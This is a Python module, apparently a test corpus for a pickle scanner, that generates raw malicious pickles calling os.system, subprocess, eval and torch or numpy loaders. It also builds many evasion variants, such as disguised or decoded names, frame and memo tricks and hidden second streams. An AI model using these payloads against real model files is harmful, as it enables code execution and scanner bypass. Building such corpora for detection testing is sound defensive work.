"""Bare pickles that would do harm."""

import struct

from assembler import *  # noqa: F403  (a page of opcodes)

# (module, name, arguments): functions and classes with which pickles have been armed.
# Sources: the advisories for picklescan, modelscan and fickling; the library reference.
GADGETS = [
    ("os", "system", [COMMAND]),
    ("posix", "system", [COMMAND]),
    ("nt", "system", [COMMAND]),
    ("os", "popen", [COMMAND]),
    ("os", "execvp", ["echo", ["echo", "kilter-test"]]),
    ("os", "remove", ["/nonexistent/kilter-test"]),
    ("os", "putenv", ["KILTER", "test"]),
    ("subprocess", "Popen", [["echo", "kilter-test"]]),
    ("subprocess", "check_output", [["echo", "kilter-test"]]),
    ("subprocess", "run", [["echo", "kilter-test"]]),
    ("subprocess", "getoutput", [COMMAND]),
    ("commands", "getoutput", [COMMAND]),
    ("builtins", "eval", ["print('kilter-test')"]),
    ("builtins", "exec", ["print('kilter-test')"]),
    ("__builtin__", "eval", ["print('kilter-test')"]),
    ("__builtin__", "execfile", ["/nonexistent/kilter-test"]),
    ("builtins", "compile", ["print('kilter-test')", "x", "exec"]),
    ("builtins", "__import__", ["antigravity_kilter"]),
    ("builtins", "open", ["/nonexistent/kilter-test", "r"]),
    ("builtins", "getattr", [name("os", "path"), "join"]),
    ("builtins", "setattr", [name("collections", "OrderedDict"), "x", 1]),
    ("builtins", "delattr", [name("collections", "OrderedDict"), "x"]),
    ("builtins", "globals", []),
    ("builtins", "breakpoint", []),
    ("builtins", "input", ["kilter-test"]),
    ("builtins", "map", [name("os", "system"), [COMMAND]]),
    ("builtins", "filter", [name("os", "system"), [COMMAND]]),
    ("builtins", "type", ["X", (), {}]),
    ("sys", "exit", [0]),
    ("sys", "settrace", [None]),
    ("shutil", "rmtree", ["/nonexistent/kilter-test"]),
    ("socket", "create_connection", [("127.0.0.1", 9)]),
    ("runpy", "run_path", ["/nonexistent/kilter-test"]),
    ("importlib", "import_module", ["antigravity_kilter"]),
    ("importlib.machinery", "SourceFileLoader", ["x", "/nonexistent/kilter-test"]),
    ("pickle", "loads", [b"C\x02N."]),
    ("_pickle", "loads", [b"C\x02N."]),
    ("dill", "loads", [b"C\x02N."]),
    ("marshal", "loads", [b"C\x01N"]),
    ("webbrowser", "open", ["http://127.0.0.1:9/"]),
    ("ctypes", "CDLL", ["libkilter-test.so"]),
    ("pty", "spawn", [["echo", "kilter-test"]]),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", []),
    ("multiprocessing.util", "spawnv_passfds", [b"C\x04echo", ["echo"], []]),
    ("pydoc", "pipepager", ["kilter-test", "echo"]),
    ("pydoc", "locate", ["os.system"]),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", []),
    ("idlelib.run", "Executive.runcode", []),
    ("cProfile", "runctx", ["print('kilter-test')", {}, {}]),
    ("cProfile", "run", ["print('kilter-test')"]),
    ("profile", "Profile.run", []),
    ("trace", "Trace.run", []),
    ("timeit", "timeit", ["print('kilter-test')"]),
    ("doctest", "debug_script", ["print('kilter-test')"]),
    ("code", "InteractiveInterpreter.runcode", []),
    ("bdb", "Bdb.run", []),
    ("pdb", "run", ["print('kilter-test')"]),
    ("ensurepip._uninstall", "_main", []),
    ("pip", "main", [["--version"]]),
    ("venv", "create", ["/nonexistent/kilter-test"]),
    ("platform", "popen", [COMMAND]),
    ("imaplib", "IMAP4_stream", [COMMAND]),
    ("smtplib", "SMTP", ["127.0.0.1", 9]),
    ("ftplib", "FTP", ["127.0.0.1"]),
    ("http.client", "HTTPSConnection", ["127.0.0.1"]),
    ("urllib.request", "urlopen", ["http://127.0.0.1:9/"]),
    ("requests.api", "get", ["http://127.0.0.1:9/"]),
    ("uuid", "_get_command_stdout", ["echo"]),
    ("aifc", "open", ["/nonexistent/kilter-test"]),
    ("linecache", "getlines", ["/nonexistent/kilter-test"]),
    ("logging.config", "fileConfig", ["/nonexistent/kilter-test"]),
    ("functools", "reduce", [name("os", "system"), [COMMAND]]),
    ("functools", "partial", [name("os", "system"), COMMAND]),
    ("operator", "attrgetter", ["system"]),
    ("operator", "methodcaller", ["system", COMMAND]),
    ("_operator", "attrgetter", ["system"]),
    ("types", "FunctionType", []),
    ("types", "CodeType", []),
    ("lib2to3.pgen2.grammar", "Grammar.loads", []),
    ("test.support.script_helper", "assert_python_ok", []),
    ("tempfile", "mktemp", []),
    ("site", "addsitedir", ["/nonexistent/kilter-test"]),
    ("distutils.file_util", "write_file", ["/nonexistent/kilter-test", []]),
    ("numpy.testing._private.utils", "runstring", ["print('kilter-test')", {}]),
    ("numpy.f2py.crackfortran", "getlincoef", ["print('kilter-test')", {}]),
    ("numpy", "load", ["/nonexistent/kilter-test"]),
    ("numpy", "fromfile", ["/nonexistent/kilter-test"]),
    ("torch.hub", "load", ["kilter/test", "x"]),
    ("torch", "load", ["/nonexistent/kilter-test"]),
    ("torch.serialization", "load", ["/nonexistent/kilter-test"]),
    ("torch.jit", "load", ["/nonexistent/kilter-test"]),
    ("torch.utils.collect_env", "run", [COMMAND]),
    ("torch.utils.bottleneck.__main__", "run_cprofile", ["print('kilter-test')", {}]),
    ("torch.utils._config_module", "ConfigModule.load_config", []),
    ("torch.fx.graph_module", "_forward_from_src", ["print('kilter-test')", {}]),
    ("torch._dynamo.guards", "GuardBuilder.get", []),
    ("torch._inductor.codecache", "compile_file", []),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", ["print('kilter-test')", {}, {}]),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ["pkl", b"C\x02N."]),
    ("pandas", "read_pickle", ["http://127.0.0.1:9/"]),
    ("pandas", "read_csv", ["http://127.0.0.1:9/"]),
    ("mlflow.pyfunc", "load_model", ["/nonexistent/kilter-test"]),
    ("joblib", "load", ["/nonexistent/kilter-test"]),
    ("fickling.hook", "deactivate_safe_ml_environment", []),
    ("picklescan.scanner", "scan_file_path", ["x"]),
    ("a_module_nobody_knows", "make", ["x"]),
    ("mypackage.models", "Net", []),
]


def one(body, protocol=2):
    return (proto(protocol) if protocol >= 2 else b"") + body + STOP


def gadgets():
    for number, (module, attribute, arguments) in enumerate(GADGETS):
        what = f"{module}.{attribute}"
        stem = f"gadget_{number:03d}_{module}.{attribute}".replace("/", "_")[:80]
        yield f"{stem}_reduce", f"{what}: GLOBAL, REDUCE", one(call(module, attribute, arguments))
        yield (f"{stem}_stack", f"{what}: STACK_GLOBAL in a frame",
               proto(4) + frame(call4(module, attribute, arguments) + STOP))


def call_opcodes():
    argument = value((COMMAND,))
    system = name("os", "system")
    yield "inst", "INST", one(inst("os", "system", string0(COMMAND)), 0)
    yield "obj", "OBJ", one(MARK + system + text2(COMMAND) + OBJ)
    yield "newobj", "NEWOBJ", one(system + argument + NEWOBJ)
    yield "newobj_ex", "NEWOBJ_EX", one(system + argument + EMPTY_DICT + NEWOBJ_EX, 4)
    yield "protocol0", "text opcodes only", one(
        name("os", "system") + MARK + string0(COMMAND) + TUPLE + REDUCE, 0)
    yield "protocol1", "protocol 1", one(name("os", "system") + MARK + b"U" + bytes([len(COMMAND)])
                                         + COMMAND.encode() + TUPLE + REDUCE, 0)
    for number in range(2, 6):
        yield f"protocol{number}", f"protocol {number}", one(SYSTEM, number)
    yield "named_only", "named, never called", one(name("os", "system"))
    yield "named_only_unknown", "an unknown module is imported", one(name("evil_module", "x"))
    yield "named_in_dict", "as a value of a dict", one(value({"a": name("subprocess", "Popen")}))
    yield "popped", "called, then popped", one(SYSTEM + POP + NONE)
    yield "below_mark", "called below a mark that is dropped", one(MARK + SYSTEM + POP_MARK + NONE)
    yield "as_key", "called as a dict key", one(EMPTY_DICT + SYSTEM + integer(1) + SETITEM)
    yield "as_persistent_id", "called for a persistent id", one(SYSTEM + b"Q")
    yield "left_on_stack", "left on the stack below the result", one(SYSTEM + NONE)
    yield "in_state", "called for the state of a harmless object", one(
        call("collections", "OrderedDict", []) + SYSTEM + BUILD)
    yield "dup", "through DUP", one(system + DUP + POP + argument + REDUCE)
    yield "deep", "under 1000 lists", one(EMPTY_LIST * 1000 + SYSTEM + APPEND * 1000)
    yield "factory", "as a default factory", one(
        call("collections", "defaultdict", [name("os", "getcwd")]))
    yield "kwargs", "keyword arguments hold the call", one(
        name("argparse", "Namespace") + EMPTY_TUPLE + value({"x": SYSTEM}) + NEWOBJ_EX, 4)


def names_in_disguise():
    argument = value((COMMAND,))
    cases = [
        ("dotted_call", "builtins", "eval.__call__"),
        ("dotted_os", "shutil", "os.system"),
        ("dotted_logging", "logging", "os.system"),
        ("dotted_pathlib", "pathlib", "os.system"),
        ("dotted_random", "random", "_os.system"),
        ("dotted_class", "collections", "OrderedDict.__init__.__globals__"),
        ("dotted_torch", "torch", "os.system"),
        ("dotted_nn", "torch.nn.modules.module", "torch.os.system"),
        ("dotted_numpy", "numpy", "os.system"),
        ("submodule", "torch._utils.os", "system"),
        ("space_in_name", "pathlib os", "system"),
        ("space_before", " os", "system"),
        ("tab_after", "os\t", "system"),
        ("carriage_return", "os\r", "system"),
        ("module_object", "logging", "sys"),
        ("module_object_os", "tarfile", "os"),
        ("python2_names", "__builtin__", "apply"),
        ("python2_moved", "cPickle", "loads"),
        ("python2_moved_urllib", "urllib", "urlopen"),
        ("python2_commands", "commands", "getstatusoutput"),
        ("empty_module", "", "system"),
        ("empty_name", "os", ""),
        ("unicode_module", "оs", "system"),
        ("safe_prefix", "torchx", "FloatStorage"),
        ("safe_name_elsewhere", "evil", "OrderedDict"),
        ("safe_module_other_name", "collections", "_sys"),
        ("nn_function", "torch.nn.modules.module", "register_module_forward_hook"),
        ("codecs_open", "codecs", "open"),
        ("main_class", "__main__", "Payload"),
    ]
    for stem, module, attribute in cases:
        yield (f"name_{stem}", f"{module!r}.{attribute!r}",
               one(name(module, attribute) + argument + REDUCE))
        yield (f"name4_{stem}", f"{module!r}.{attribute!r} by STACK_GLOBAL",
               proto(4) + stack_name(module, attribute) + argument + REDUCE + STOP)
    utf16 = text2("os")
    yield ("computed_name", "the name is put together by a call", proto(4) + utf16
           + call("builtins", "str", [b"C\x06system"]) + STACK_GLOBAL + argument + REDUCE + STOP)
    yield ("computed_module", "the module comes out of a dict", proto(4)
           + call("builtins", "dict", []) + text4("system") + STACK_GLOBAL + argument + REDUCE + STOP)
    yield ("computed_decode", "the name is decoded while loading", proto(4) + text4("os")
           + call("_codecs", "encode", ["flfgrz", "rot13"]) + STACK_GLOBAL + argument + REDUCE + STOP)


def attribute_tricks():
    state = value({"__module__": "x"})
    yield "build_global", "BUILD rewrites a function", one(name("numpy", "prod") + state + BUILD)
    yield "build_class", "BUILD rewrites a class", one(
        name("collections", "OrderedDict") + value({"update": name("os", "system")}) + BUILD)
    yield "build_slots", "BUILD with slots on a class", one(
        name("torch._utils", "_rebuild_tensor_v2") + value((None, {"x": 1})) + BUILD)
    yield "build_memo", "BUILD on a memoized global", one(
        name("numpy", "size") + put(1) + POP + get(1) + state + BUILD)
    yield "setitem_class", "SETITEM on a module's dict", one(
        name("os", "environ") + text2("PATH") + text2("/x") + SETITEM)
    yield "setitem_tensor", "SETITEM on a rebuilt tensor (CVE-2026-24747)", one(
        call("torch._utils", "_rebuild_tensor_v2", [None, 0, (), (), False, None])
        + integer(0) + integer(1) + SETITEM)
    yield "append_tensor", "APPEND on a rebuilt tensor", one(
        call("torch._utils", "_rebuild_tensor_v2", [None, 0, (), (), False, None])
        + integer(0) + APPEND)
    yield "setitem_persistent", "SETITEM on a persistent id", one(
        text2("x") + b"Q" + integer(0) + integer(1) + SETITEM)
    yield "call_of_call", "calls what a call returned", one(
        call("functools", "partial", [name("collections", "OrderedDict")]) + EMPTY_TUPLE + REDUCE)
    yield "call_persistent", "calls a persistent id", one(
        text2("x") + b"Q" + EMPTY_TUPLE + REDUCE)
    yield "rebuild_from_type", "torch calls any function it is given", one(
        call("torch._tensor", "_rebuild_from_type_v2",
             [name("os", "system"), name("torch", "Tensor"), (COMMAND,), {}]))
    yield "rebuild_from_type_safe", "torch calls a harmless name in a harmful way", one(
        call("torch._tensor", "_rebuild_from_type_v2",
             [name("_codecs", "encode"), name("torch", "Tensor"), ("x", "rot13"), {}]))
    yield "getattr_chain", "getattr to any attribute", one(
        call("builtins", "getattr", [call("builtins", "getattr",
             [name("collections", "OrderedDict"), "__init__"]), "__globals__"]))
    yield "load_from_bytes", "a harmful torch file inside", one(
        call("torch.storage", "_load_from_bytes", [bytes3(one(SYSTEM))]))
    yield "load_from_bytes_zip", "an archive inside", one(
        call("torch.storage", "_load_from_bytes", [bytes3(b"PK\x03\x04" + b"\0" * 40)]))
    yield "load_from_bytes_computed", "computed bytes inside", one(
        call("torch.storage", "_load_from_bytes", [call("builtins", "bytes", [["x"]])]))
    yield "codec", "a codec other than latin1", one(
        call("_codecs", "encode", ["abc", "zlib_codec"]))
    yield "reconstructor", "an unknown class is rebuilt", one(
        call("copy_reg", "_reconstructor",
             [name("evil", "Payload"), name("__builtin__", "object"), None]))
    yield "numpy_reconstruct", "numpy is given an unknown class", one(
        call("numpy.core.multiarray", "_reconstruct", [name("evil", "Array"), (0,), b"C\x01b"]))
    instance = name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
    nested = bytes3(one(SYSTEM))
    yield "hijacked_setstate", "a state names what the next BUILD calls", one(
        instance + value({"__setstate__": name("torch.storage", "_load_from_bytes")}) + BUILD
        + nested + BUILD)
    yield "hijacked_setstate_class", "the same with the constructor of a known class", one(
        instance + value({"__setstate__": name("models.common", "DetectMultiBackend")}) + BUILD
        + value("/nonexistent/kilter-test") + BUILD)
    yield "hijacked_setstate_decoded", "the same with the attribute's name decoded", one(
        instance + EMPTY_DICT + call("builtins", "str", [bytes3(b"__setstate__"), "ascii"])
        + name("models.common", "DetectMultiBackend") + SETITEM + BUILD
        + value("/nonexistent/kilter-test") + BUILD)
    yield "hijacked_setstate_items", "an attribute dict names what BUILD calls", one(
        call("easydict", "EasyDict", [{"__setstate__": name("models.common", "AutoShape")}])
        + value("/nonexistent/kilter-test") + BUILD)
    yield "hijacked_append", "a state names what APPEND calls", one(
        name("torch.nn.modules.container", "Sequential") + EMPTY_TUPLE + NEWOBJ
        + value({"append": name("models.common", "DetectMultiBackend")}) + BUILD
        + value("/nonexistent/kilter-test") + APPEND)
    yield "function_as_value", "a function that loads pickles is kept as a value", one(
        value({"x": name("torch.storage", "_load_from_bytes")}))
    yield "generator_constructor", "numpy calls the constructor it is given", one(
        call("numpy.random._pickle", "__generator_ctor",
             ["/nonexistent/kilter-test", name("models.common", "DetectMultiBackend")]))
    yield "reconstructor_base", "copyreg calls the constructor of the base", one(
        call("copy_reg", "_reconstructor",
             [name("argparse", "Namespace"), name("models.common", "DetectMultiBackend"), "/x"]))
    yield "partial_load", "partial of a function that loads pickles", one(
        call("functools", "partial", [name("torch.storage", "_load_from_bytes"), nested]))
    yield "huge_range", "a range of 2^31 in a deque", one(
        call("collections", "deque", [call("builtins", "range", [2000000000])]))
    yield "huge_bytes", "asks for 2 GB", one(call("builtins", "bytearray", [2000000000]))
    yield "range_list", "writes out a range", one(
        call("builtins", "list", [call("builtins", "range", [2000000000])]))


def machine_tricks():
    argument = value((COMMAND,))
    yield "ext1", "EXT1", one(b"\x82\x01" + argument + REDUCE)
    yield "ext2", "EXT2", one(b"\x83\x01\x01" + argument + REDUCE)
    yield "ext4", "EXT4", one(b"\x84\x01\x01\x00\x00" + argument + REDUCE)
    yield "memo_swap", "a memo slot is filled twice", one(
        name("collections", "OrderedDict") + put(0) + POP + name("os", "system") + put(0) + POP
        + get(0) + argument + REDUCE)
    yield "memo_memoize", "MEMOIZE counts entries, not indices", proto(4) + (
        name("collections", "OrderedDict") + put(5) + POP + name("os", "system") + MEMOIZE + POP
        + get(1) + argument + REDUCE + STOP)
    yield "memo_text_index", "GET with underscores", one(
        name("os", "system") + b"p1_0\n" + POP + b"g10\n" + argument + REDUCE)
    yield "memo_huge_index", "memo index 2^32-1", one(
        NONE + b"r\xff\xff\xff\xff" + POP + NONE)
    yield "missing_memo", "a payload, then a missing memo slot", one(SYSTEM + get(77))
    yield "broken_tail", "a payload, then an unknown opcode", proto(2) + SYSTEM + b"\xff\xff\xff"
    yield "no_stop", "a payload without STOP", proto(2) + SYSTEM
    yield "truncated", "a payload, then half a string", proto(2) + SYSTEM + b"X\xff\xff\x00\x00ab"
    yield "stack_underflow", "a payload, then an empty stack", one(SYSTEM + POP + POP)
    yield "global_at_end", "the file ends inside GLOBAL", b"cos\nsystem"
    yield "second_stream", "a harmless pickle, then a harmful one", one(NONE) + one(SYSTEM)
    yield "tenth_stream", "nine harmless pickles, then a harmful one", one(NONE) * 9 + one(SYSTEM)
    yield "second_text_stream", "then a harmful text pickle", one(NONE) + SYSTEM + STOP
    yield "after_junk", "a harmless pickle, junk, a harmful one", one(NONE) + b"\0junk\0" + one(SYSTEM)
    yield "after_zeros", "a harmless pickle, zeros, a harmful one", one(NONE) + b"\0" * 64 + one(SYSTEM)
    yield "after_break", "a broken pickle, then a harmful one", proto(2) + b"\xff" + one(SYSTEM)
    yield "after_break_text", "a broken pickle, then text opcodes", (
        proto(2) + b"\xff\n" + name("os", "system") + b"(S'x'\ntR.")
    body = SYSTEM + STOP
    yield "frame_short", "a frame ends inside the payload", (
        proto(4) + b"\x95" + struct.pack("<Q", len(body) - 9) + body)
    yield "frame_long", "a frame longer than the file", (
        proto(4) + b"\x95" + struct.pack("<Q", len(body) + 1000) + body)
    yield "frame_huge", "a frame of 2^63 bytes", proto(4) + b"\x95" + b"\xff" * 8 + body
    yield "frame_nested", "a frame inside a frame", (
        proto(4) + frame(frame(body) + NONE))
    hidden = text4("A" * 20)[:2]
    yield "frame_straddle", "an argument crosses its frame: readers disagree", (
        proto(4) + frame(hidden) + b"A" * 20 + NONE + STOP + body)
    inner = call4("os", "system", [COMMAND]) + STOP
    yield "frame_hidden", "some readers skip the text that hides the payload", (
        proto(4) + frame(NONE + POP + b"\x8c") + bytes([len(inner)]) + inner + STOP)
    yield "after_junk_stack", "junk, then STACK_GLOBAL without PROTO", one(NONE) + b"\0junk" + inner
    yield "proto_late", "PROTO in the middle", one(NONE + POP + proto(0) + SYSTEM)
    yield "proto_high", "an unknown protocol, then a payload", proto(9) + SYSTEM + STOP
    yield "many_pops", "hidden among 50,000 opcodes", one((NONE + POP) * 25000 + SYSTEM)
    yield "long_string", "behind a string of 1 MB", one(text2("x" * 1000000) + POP + SYSTEM)
    laughs = EMPTY_LIST + put(0)
    for level in range(1, 30):
        laughs += POP + MARK + get(level - 1) * 10 + TUPLE + put(level)
    yield "billion_laughs", "tuples of tuples by reference", one(laughs)
    laughs = text2("lol" * 10)
    for _ in range(40):
        laughs += DUP + TUPLE2
    yield "billion_laughs_dup", "the same by DUP", one(laughs)
    yield "buffer", "needs out-of-band data", proto(5) + b"\x97" + STOP
    yield "joblib_raw", "opcodes in the bytes of a joblib array", proto(2) + (
        name("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
        + value({"subclass": name("numpy", "ndarray"), "shape": (len(SYSTEM) + 1,), "order": "C",
                 "dtype": call("numpy", "dtype", ["u1", False, True])
                 + value((3, "|", None, None, None, -1, -1, 0)) + BUILD,
                 "allow_mmap": True})
        + BUILD + SYSTEM + STOP + STOP)
    yield "joblib_object_array", "a harmful pickle as an array of objects", proto(2) + (
        name("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
        + value({"subclass": name("numpy", "ndarray"), "shape": (1,), "order": "C",
                 "dtype": call("numpy", "dtype", ["O8", False, True])
                 + value((3, "|", None, None, None, -1, -1, 63)) + BUILD,
                 "allow_mmap": False})
        + BUILD + one(SYSTEM) + STOP)


def harmful():
    """Yields (name, what, bytes)."""
    for part in (gadgets, call_opcodes, names_in_disguise, attribute_tricks, machine_tricks):
        yield from part()
